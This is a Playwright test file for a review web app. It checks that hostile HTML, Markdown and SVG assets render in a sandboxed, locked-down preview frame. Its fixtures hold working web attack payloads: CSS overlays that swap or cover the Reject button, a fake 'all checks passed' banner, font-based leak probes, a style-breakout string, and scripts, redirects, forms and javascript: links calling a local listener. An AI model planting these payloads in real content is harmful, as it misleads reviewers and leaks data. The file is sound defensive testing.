import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { startQuorate, type Quorate } from '../support/harness';
import { bearer } from '../support/people';
import { launchBrowser, newPage, screenshot } from './browser';
import {
  asset,
  campaignClass,
  decisionOf,
  demoAdmin,
  listen,
  reviewer,
  submitForReview,
  type WebPerson,
} from './fixtures';

/**
 * Assets written to attack the reviewer: restyle or cover the vote buttons so that "Reject" records an
 * approve, hide the findings, fake an "all checks passed" banner, and load stylesheets, fonts and images
 * from a server of their choosing. Every outside address points at a listener this file runs, which
 * must never hear from the browser.
 */
const hostileHtml = (host: string) => `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=http://${host}/html-refresh">
<link rel="stylesheet" href="http://${host}/html-link.css">
<style>
@import url("http://${host}/html-import.css");
@font-face { font-family: leak; src: url(http://${host}/html-font-a.woff); unicode-range: U+0041; }
@font-face { font-family: leak; src: url('http://${host}/html-font-b.woff'); unicode-range: U+0042; }
body, .review-side * { font-family: leak, sans-serif !important; }
</style></head>
<body>
<style>
.choices { display: flex !important; flex-direction: row-reverse !important; }
.choice-approve { order: 3 !important; transform: translateX(180px) !important; }
.choice-reject { position: absolute !important; left: 0 !important; z-index: 99999 !important; }
.choice-reject::after { content: " (approve)"; }
.findings, .finding, .src-finding { display: none !important; }
.hero { --picture: url(http://${host}/html-variable.png); background: var(--picture); min-height: 40px; }
/* Escaped so that it closes the style element only if the sheet is written back out unescaped. */
.quote::before { content: "\\3c /style>\\3c img src='http://${host}/html-breakout.png'>"; }
.fake-banner { position: fixed; inset: 0; z-index: 2147483647; background: #16a34a; color: #fff; font-size: 48px; }
</style>
<div class="fake-banner">All checks passed ✓ Approved by legal</div>
<h1 class="hero">Spring offer</h1>
<p class="quote" style="background-image: url('http://${host}/html-background.png')">Our synergy with your team.</p>
<img src="http://${host}/html-image.png" alt="Hero" width="320" height="120">
<form action="http://${host}/html-form" method="post"><input name="q" value="secret" autofocus><button>Send</button></form>
<a href="javascript:alert(1)">Claim offer</a> · <a href="http://${host}/html-link" target="_top">Terms</a>
<script>fetch('http://${host}/html-script'); top.location = 'http://${host}/html-top';</script>
</body></html>
`;

const hostileMarkdown = (host: string) => `# Offer notes

<style>
.vote, .review-side { display: none !important; }
.choice-reject { position: fixed; inset: 0; z-index: 2147483647; opacity: 0; }
@import "http://${host}/md-import.css";
</style>

<div style="position: fixed; inset: 0; z-index: 2147483647; background: white; font-size: 40px">No findings: every check passed.</div>

![chart](http://${host}/md-image.png)

[Open the offer](javascript:alert(1)) or [read the terms](http://${host}/md-link).

<meta http-equiv="refresh" content="0;url=http://${host}/md-refresh">
<link rel="stylesheet" href="http://${host}/md-link.css">
<input autofocus value="focus me"> <textarea>type here</textarea>
<script>location = 'http://${host}/md-script'</script>
`;

const hostileSvg = (
  host: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="240" viewBox="0 0 480 240">
<style>
@import url(http://${host}/svg-import.css);
@font-face { font-family: leak; src: url(http://${host}/svg-font.woff); }
text { font-family: leak, sans-serif; }
.choices { flex-direction: column-reverse !important; }
</style>
<script>fetch('http://${host}/svg-script')</script>
<rect width="480" height="240" fill="#4f46e5"/>
<rect width="100" height="100" fill="url(http://${host}/svg-paint.svg#gradient)"/>
<image x="120" y="20" width="240" height="80" xlink:href="http://${host}/svg-image.png"/>
<a href="javascript:alert(1)"><text x="20" y="180" fill="#fff" font-size="24">Approve here</text></a>
<a xlink:href="http://${host}/svg-link"><text x="260" y="180" fill="#fff" font-size="24">Terms</text></a>
<foreignObject x="0" y="0" width="480" height="240">
<div xmlns="http://www.w3.org/1999/xhtml" style="position: fixed; inset: 0; background: url(http://${host}/svg-fo-background.png)">
<form action="http://${host}/svg-form"><input autofocus="autofocus" value="x"/></form>
</div>
</foreignObject>
</svg>
`;

const BENIGN = '<h1>Spring offer</h1><p>Twenty percent off for every team, all of April.</p>\n';

/** Computed styles that decide where a control is, whether it shows and what it looks like. */
const STYLES = [
  'display',
  'visibility',
  'opacity',
  'position',
  'order',
  'transform',
  'z-index',
  'font-family',
  'font-size',
  'color',
  'background-color',
  'pointer-events',
];

interface Control {
  text: string;
  box: number[];
  style: Record<string, string>;
  /** Whether a click at the control's centre lands on the control itself. */
  onTop: boolean;
}

describe('asset content under review cannot touch the web app', () => {
  let q: Quorate;
  let browser: Browser;
  let base: string;
  let admin: WebPerson;
  let maya: WebPerson;
  let botKey: string;
  let benign: string;
  let listener: Server;
  let host: string;
  const heard: string[] = [];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/css' });
      response.end('.choice-reject { display: none !important }');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    host = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
    [q, browser] = await Promise.all([startQuorate(), launchBrowser()]);
    base = await listen(q);
    admin = await demoAdmin(q);
    maya = await reviewer(q, 'maya.chen@example.com', 'Maya Chen');
    const jonas = await reviewer(q, 'jonas.weber@example.com', 'Jonas Weber');
    botKey = await campaignClass(q, admin, [maya, jonas]);
    benign = await reviewable('Offer page 0', 'text/html', BENIGN);
  });

  afterAll(async () => {
    await browser?.close();
    await q?.close();
    await new Promise((resolve) => listener?.close(resolve));
  });

  it('shows hostile HTML, Markdown and SVG in a sandboxed frame, and Reject records a reject', async () => {
    const hostile: [string, string, string][] = [
      ['Offer page 1', 'text/html', hostileHtml(host)],
      ['Offer page 2', 'text/markdown', hostileMarkdown(host)],
      ['Offer page 3', 'image/svg+xml', hostileSvg(host)],
    ];
    const decisions = await Promise.all(hostile.map(([title, type, text]) => reviewable(title, type, text)));

    const { page, context, errors } = await newPage(browser, base);
    await signIn(page, maya);
    await openReview(page, benign, 'text/html');
    const expected = await votePanel(page);
    expect(expected.map((c) => c.text)).toEqual([
      '✓ Approve',
      '✕ Reject',
      '– Abstain',
      'Reason (optional)',
      '',
      'Cast vote',
    ]);
    expect(expected.every((c) => c.onTop)).toBe(true);

    for (const [index, decisionId] of decisions.entries()) {
      const [title, mediaType] = hostile[index];
      await openReview(page, decisionId, mediaType);
      expect({ title, panel: await votePanel(page) }).toEqual({ title, panel: expected });
      // The content renders with its own styles, inside the frame, where its overlay covers only itself.
      const frame = page.frameLocator('iframe[title="Asset preview"]');
      await frame.locator('body').waitFor();

      // What the policy stopped is marked, naming the host, inside the frame and beside it in the app.
      const marker = frame.locator('.blocked-resource').filter({ hasText: host }).first();
      expect(await marker.isVisible()).toBe(true);
      expect(await page.getByRole('note').filter({ hasText: host }).isVisible()).toBe(true);

      // Passive content only: nothing to follow, submit or focus.
      const attributes = (await frame.locator('body').evaluate(FRAME_CONTENT)) as Record<string, unknown>;
      expect({ title, ...attributes }).toEqual({
        title,
        policy: expect.stringContaining("default-src 'none'"),
        links: 0,
        forms: 0,
        outsideImages: 0,
        scripts: 0,
        enabledControls: 0,
      });
      expect(await page.locator('iframe[title="Asset preview"]').getAttribute('sandbox')).toBe('');
      expect(await tabsIntoFrame(page)).toBe(false);
      if (mediaType === 'text/html') {
        // Its findings still show in the app, next to the vote.
        expect(await page.locator('.findings .finding').first().isVisible()).toBe(true);
        expect(await page.getByText('No findings: every check passed.').count()).toBe(0);
      }
      await screenshot(page, `hostile-${mediaType.split('/')[1].replace(/\W.*$/, '')}`);

      await page.getByRole('button', { name: 'Reject', exact: true }).click();
      await page.getByLabel(/Reason/).fill('Tries to restyle the review page');
      await page.getByRole('button', { name: 'Cast vote' }).click();
      // A reject from one of two equal voters closes the decision, so the panel may say so instead.
      await page.getByText(/Vote recorded|Voting has closed; you voted reject/).waitFor();
      const decision = await q.http
        .get(`/v1/decisions/${decisionId}`)
        .set(bearer(maya.accessToken))
        .expect(200);
      const mine = (decision.body.votes as { voterId: string; choice: string }[]).filter(
        (v) => v.voterId === maya.id,
      );
      expect({ title, votes: mine.map((v) => v.choice) }).toEqual({ title, votes: ['reject'] });
    }

    expect(heard).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('runs the app and the queue dashboard under the policy, loading nothing from elsewhere', async () => {
    const { page, context, errors } = await newPage(browser, base);
    const outside: string[] = [];
    const violations: string[] = [];
    context.on('request', (request) => {
      if (!request.url().startsWith(`${base}/`) && !/^(data|blob|about):/.test(request.url()))
        outside.push(request.url());
    });
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await signIn(page, admin);
    await page.goto(`/decisions/${benign}`);
    await page
      .frameLocator('iframe[title="Asset preview"]')
      .getByRole('heading', { name: 'Spring offer' })
      .waitFor();
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Ledger' }).click();
    await page.getByRole('button', { name: 'Run audit' }).waitFor();

    // The dashboard signs in through the cookie this call sets in the browser.
    const session = await context.request.post(`${base}/v1/admin/queue-dashboard/session`, {
      headers: bearer(admin.accessToken),
    });
    expect(session.status()).toBe(204);
    await page.goto('/admin/queues');
    await page.getByText('validation', { exact: true }).first().waitFor();
    expect(await page.evaluate('document.fonts.size')).toBe(0);

    expect({ outside, violations }).toEqual({ outside: [], violations: [] });
    expect(errors).toEqual([]);
    await context.close();
  });

  async function reviewable(title: string, mediaType: string, text: string): Promise<string> {
    const id = await submitForReview(q, botKey, asset(title, mediaType, text));
    return decisionOf(q, botKey, id, 1);
  }
});

async function signIn(page: Page, person: WebPerson): Promise<void> {
  await page.goto('/');
  await page.getByLabel('Email').fill(person.email);
  await page.getByLabel('Password').fill(person.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Inbox', level: 1 }).waitFor();
}

/** The review page with its asset loaded and the preview tab chosen, scrolled to the top so pages measure alike. */
async function openReview(page: Page, decisionId: string, mediaType: string): Promise<void> {
  await page.goto(`/decisions/${decisionId}`);
  await page.getByRole('form', { name: 'Your vote' }).waitFor();
  // The media type badge appears with the asset, and the preview renders with it.
  await page.getByText(mediaType, { exact: true }).first().waitFor();
  const preview = page.getByRole('tab', { name: 'Preview' });
  if (await preview.count()) await preview.click();
  await page.evaluate('window.scrollTo(0, 0)');
}

function votePanel(page: Page): Promise<Control[]> {
  return page.getByRole('form', { name: 'Your vote' }).evaluate(MEASURE, STYLES) as Promise<Control[]>;
}

// Functions that run in the browser, written as source: this file is compiled without the DOM's types.
const inBrowser = (parameter: string, body: string) =>
  // eslint-disable-next-line @typescript-eslint/no-implied-eval
  new Function(parameter, 'styles', `return (${body})`) as (element: unknown, styles?: string[]) => unknown;

const MEASURE = inBrowser(
  'form',
  `Array.from(form.querySelectorAll('button, label, textarea')).map((element) => {
  const rect = element.getBoundingClientRect();
  const computed = getComputedStyle(element);
  const hit = document.elementFromPoint(rect.x + rect.width / 2, rect.y + rect.height / 2);
  return {
    text: (element.textContent ?? '').trim(),
    box: [rect.x, rect.y, rect.width, rect.height].map(Math.round),
    style: Object.fromEntries(styles.map((name) => [name, computed.getPropertyValue(name)])),
    onTop: hit !== null && (hit === element || element.contains(hit)),
  };
})`,
);

const FRAME_CONTENT = inBrowser(
  'body',
  `({
  policy: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
  links: body.querySelectorAll('[href]:not(use), [xlink\\\\:href]').length,
  forms: body.querySelectorAll('form').length,
  outsideImages: body.querySelectorAll('img:not([src^="data:"]), image').length,
  scripts: document.querySelectorAll('script').length,
  enabledControls: body.querySelectorAll('input:enabled, textarea:enabled, button:enabled').length,
})`,
);

const FOCUS_IN_FRAME = "document.activeElement?.localName === 'iframe'";

/** Tabs from the asset's tabs (or the page start) past the preview: true if focus ever enters the frame. */
async function tabsIntoFrame(page: Page): Promise<boolean> {
  const start = page.getByRole('tab', { selected: true });
  if (await start.count()) await start.focus();
  else await page.locator('body').focus();
  for (let i = 0; i < 12; i++) {
    await page.keyboard.press('Tab');
    if (await page.evaluate(FOCUS_IN_FRAME)) return true;
  }
  return false;
}
